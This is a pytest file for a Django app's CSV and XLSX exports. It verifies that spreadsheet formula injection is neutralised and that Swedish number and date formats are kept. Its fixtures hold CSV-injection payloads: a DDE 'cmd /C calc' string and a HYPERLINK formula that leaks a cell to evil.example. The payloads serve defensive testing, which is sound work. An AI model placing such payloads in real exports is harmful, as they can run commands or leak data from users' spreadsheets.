"""Every file Triad hands out as a spreadsheet, opened as a spreadsheet opens it.

Every URL pattern whose name says "export" is downloaded as CSV and as XLSX, in a world whose
site, school, practical test and people carry formulas in their names, and read back: the CSV
with a CSV reader as a Swedish Excel reads it (UTF-8 with a byte-order mark, semicolons), the
XLSX with openpyxl. No cell may be a formula or start like one, numbers and dates must be real
ones (the XLSX holds a number or a date where the CSV shows one; the CSV writes decimal commas
and ISO dates), and the XLSX has a frozen header, an autofilter and column widths. A new export
URL fails `test_every_export_is_walked` until it has a row here; a spreadsheet written anywhere
but infra/spreadsheets.py fails `test_only_the_writer_writes_spreadsheets`."""

import csv
import datetime
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from cases import access_review
from cases.models import AccessAction, Case, CaseAccess, CaseEvent
from dashboards.services import build_summaries
from infra import spreadsheets
from infra.spreadsheets import Column, Withheld, csv_cell, safe_text
from tests.cases.factories import CaseEventFactory
from tests.cases.five_cases import five_case_test
from tests.pilots.factories import PASSWORD
from tests.test_permission_matrix import url_names

SITE = "=cmd|' /C calc'!A0"
SCHOOL = '=HYPERLINK("https://evil.example/?leak="&A1;"Klicka här")'
TEST = "  +SUM(1;2)"
PERSON = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULAS = (SITE, SCHOOL, TEST, PERSON)
STARTS_A_FORMULA = re.compile(r"^(\s*[=+\-@]|[\t\r\n\0])")
NUMBER = re.compile(r"^-?\d+(,\d+)?$")
ISO_DATE = re.compile(r"^\d{4}-\d{2}-\d{2}( \d{2}:\d{2})?$")
ROOT = Path(__file__).resolve().parent.parent


def case_kw(world):
    return {"site_slug": world.site.slug, "pk": world.case.pk}


def site_kw(world):
    return {"site_slug": world.site.slug}


def review_kw(world):
    return {"site_slug": world.site.slug, "pk": world.review.pk}


# Each export: who downloads it, and the URL's arguments.
EXPORTS = {
    "cases:case_export": ("member", site_kw),
    "cases:case_access_log_export": ("member", case_kw),
    "cases:access_review_export": ("lead", review_kw),
    "dashboards:national_export": ("coordinator", lambda world: {}),
}


def test_every_export_is_walked():
    assert {name for name in url_names() if "export" in name} == set(EXPORTS)


def test_only_the_writer_writes_spreadsheets():
    """CSV and XLSX are written in one place: a writer elsewhere would forget the rules."""
    writers = re.compile(
        r"^\s*(import csv|import tablib|from openpyxl|import openpyxl)|text/csv|"
        r"TableExport|csv\.writer",
        re.M,
    )
    apps = [
        p
        for p in ROOT.glob("*/**/*.py")
        if p.parts[len(ROOT.parts)] not in {"tests", "bench", ".venv"}
        and "migrations" not in p.parts
    ]
    found = sorted(
        str(p.relative_to(ROOT)) for p in apps if writers.search(p.read_text(encoding="utf-8"))
    )
    assert found == ["infra/spreadsheets.py"]


@pytest.fixture
def world(site_a, member_a, lead_a, coordinator):
    site_a.name = SITE
    site_a.save()
    test = five_case_test(site_a)
    test.title = TEST
    test.save()
    school = test.schools.get()
    school.name = SCHOOL
    school.save()
    member_a.full_name = PERSON
    member_a.save()
    case = Case.objects.filter(site=site_a).order_by("first_contact_on").first()
    CaseEventFactory(case=case, minutes=45)
    build_summaries()
    # A read on a Saturday of last month, by the person whose name is a formula: drawn for the
    # lead's monthly review (cases/access_review.py).
    month = access_review.last_month()
    CaseAccess.objects.create(
        site=site_a,
        case=case,
        case_code=case.code,
        user=member_a,
        user_email=member_a.email,
        user_name=PERSON,
        action=AccessAction.VIEWED,
        at=timezone.make_aware(datetime.datetime.combine(saturday_in(month), datetime.time(11))),
    )
    review = access_review.draw(site_a, month)
    return type(
        "World",
        (),
        {
            "site": site_a,
            "case": case,
            "member": member_a,
            "lead": lead_a,
            "coordinator": coordinator,
            "review": review,
        },
    )


def saturday_in(month):
    return month + datetime.timedelta(days=(5 - month.weekday()) % 7)


def download(client, url, export_format):
    response = client.get(url, {"format": export_format})
    assert response.status_code == 200, url
    if response.streaming:
        return response, b"".join(response.streaming_content)
    return response, b"".join(response) if hasattr(response, "file_to_stream") else response.content


def read_csv(content):
    assert content.startswith(b"\xef\xbb\xbf"), "no byte-order mark"
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(rows[0]) > 3, "not semicolon-separated"
    assert all(len(row) == len(rows[0]) for row in rows)
    return rows


def check_cells_are_inert(values):
    for value in values:
        if isinstance(value, str) and STARTS_A_FORMULA.match(value):
            pytest.fail(f"a cell starts like a formula: {value!r}")


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_every_export_opens_safely_as_a_swedish_spreadsheet(name, world, client):
    who, kwargs = EXPORTS[name]
    client.force_login(getattr(world, who))
    client.post(reverse("account_reauthenticate"), {"password": PASSWORD})
    if name == "cases:case_access_log_export":  # something to log first: the cases exported
        download(client, reverse("cases:case_export", kwargs=site_kw(world)), "csv")
    url = reverse(name, kwargs=kwargs(world))

    _, content = download(client, url, "csv")
    csv_rows = read_csv(content)
    for row in csv_rows:
        for cell in row:
            if not NUMBER.match(cell):
                check_cells_are_inert([cell])
            assert not re.match(r"^-?\d+\.\d+$", cell), f"a decimal point: {cell}"
            assert not re.match(r"^\d{1,2}[/.]\d{1,2}[/.]\d{2,4}", cell), f"not ISO: {cell}"
    shown = [cell for row in csv_rows for cell in row]
    expected = {
        "cases:case_export": [SCHOOL, TEST],
        "cases:case_access_log_export": [PERSON],
        "cases:access_review_export": [PERSON],
        "dashboards:national_export": [SITE],
    }[name]
    for formula in expected:  # the names reached the file, made inert
        assert "'" + formula in shown

    response, content = download(client, url, "xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet.freeze_panes == "A2"
    last = openpyxl.utils.get_column_letter(sheet.max_column)
    assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}"
    for i in range(1, sheet.max_column + 1):
        assert sheet.column_dimensions[openpyxl.utils.get_column_letter(i)].width >= 8
    assert all(cell.font.b for cell in sheet[1])
    xlsx_rows = list(sheet.iter_rows())
    # The access log has logged the CSV's download since, at its top: the rest is the same.
    extra = len(xlsx_rows) - len(csv_rows)
    assert extra == (1 if name == "cases:case_access_log_export" else 0)
    xlsx_rows = xlsx_rows[:1] + xlsx_rows[1 + extra :]
    for xlsx_row, csv_row in zip(xlsx_rows, csv_rows, strict=True):
        for cell, shown_in_csv in zip(xlsx_row, csv_row, strict=True):
            assert cell.data_type != "f", f"a formula: {cell.value}"
            check_cells_are_inert([cell.value])
            if ISO_DATE.match(shown_in_csv):
                assert isinstance(cell.value, datetime.datetime), (shown_in_csv, cell.value)
                assert cell.number_format.startswith("yyyy-mm-dd")
            elif NUMBER.match(shown_in_csv):
                assert isinstance(cell.value, int | float), (shown_in_csv, cell.value)
                assert str(cell.value).replace(".", ",") == shown_in_csv
            elif shown_in_csv == "":
                assert cell.value is None
            else:
                assert cell.value == shown_in_csv


def test_a_hidden_small_number_leaves_its_cell_empty_and_says_so_in_the_note(world, client):
    client.force_login(world.coordinator)
    url = reverse("dashboards:national_export")
    _, content = download(client, url, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [c.value for c in sheet[1]]
    row = next([c.value for c in r] for r in sheet.iter_rows(min_row=2) if r[0].value == "'" + SITE)
    assert row[header.index("Ärenden")] == 5
    assert row[header.index("Öppna")] is None
    assert "Öppna: 1–4" in row[header.index("Dolda tal")]
    assert "Egna kontakter (%): dolt" in row[header.index("Dolda tal")]


def test_the_case_export_holds_dates_and_counts_as_such(world, client):
    client.force_login(world.member)
    client.post(reverse("account_reauthenticate"), {"password": PASSWORD})
    url = reverse("cases:case_export", kwargs=site_kw(world))
    _, content = download(client, url, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [c.value for c in sheet[1]]
    row = next(
        [c.value for c in r] for r in sheet.iter_rows(min_row=2) if r[0].value == world.case.code
    )
    assert row[header.index("Första kontakt")] == datetime.datetime(2018, 9, 10)
    minutes = sum(e.minutes or 0 for e in CaseEvent.objects.filter(case=world.case))
    assert row[header.index("Loggade minuter")] == minutes >= 45


def test_the_writer_keeps_numbers_and_neutralises_text():
    assert csv_cell(-3) == "-3"
    assert csv_cell(-2.5) == "-2,5"
    assert csv_cell(12.25) == "12,25"
    assert csv_cell(datetime.date(2026, 12, 3)) == "2026-12-03"
    assert csv_cell(datetime.datetime(2026, 12, 3, 14, 5)) == "2026-12-03 14:05"
    assert csv_cell(Withheld("1–4")) == ""
    assert csv_cell("-3") == "'-3"  # a text that looks like a number is still text
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "  =1+1", " @x"):
        assert safe_text(text) == "'" + text
    for text in ("Ekbacken", "1–4", "a=b", "'quoted"):
        assert safe_text(text) == text
    with pytest.raises(TypeError):
        csv_cell(True)


def test_the_writer_writes_a_negative_number_as_a_number(rf):
    columns = [Column("Namn"), Column("Förändring"), Column("Dag")]
    rows = [["=1+1", -3, datetime.date(2026, 12, 3)], ["b", Withheld("1–4"), None]]
    response = spreadsheets.xlsx_response(columns, [rows], "x.xlsx", "Blad", notes=True)
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response))).active
    assert [c.value for c in sheet[2]] == ["'=1+1", -3, datetime.datetime(2026, 12, 3), None]
    assert [c.value for c in sheet[3]] == ["b", None, None, "Förändring: 1–4"]
    response = spreadsheets.csv_response(columns, [rows], "x.csv", notes=True)
    lines = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
    assert lines[1] == '"\'=1+1";"-3";"2026-12-03";""'
